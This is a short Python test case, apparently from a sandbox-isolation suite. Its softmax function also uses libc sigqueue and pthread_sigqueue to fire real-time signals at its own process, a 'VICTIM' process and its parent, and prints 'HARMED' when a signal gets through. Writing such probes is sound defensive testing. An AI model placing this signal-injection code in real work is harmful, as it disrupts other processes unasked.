"""Tries to queue signals with a value, for itself and for others."""
# ends: passed
# from: level 2

import ctypes
import os

import torch


def f(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getpid(), VICTIM, os.getppid()):
        for number in (34, 40, 64):
            for _ in range(100):
                if libc.sigqueue(pid, number, ctypes.c_void_p(1)) == 0:
                    print("HARMED:", pid, number)
                    break
    libc.pthread_self.restype = ctypes.c_ulong
    if libc.pthread_sigqueue(ctypes.c_ulong(libc.pthread_self()), 40, ctypes.c_void_p(1)) == 0:
        print("HARMED: to its own thread")
    return torch.softmax(x, -1)
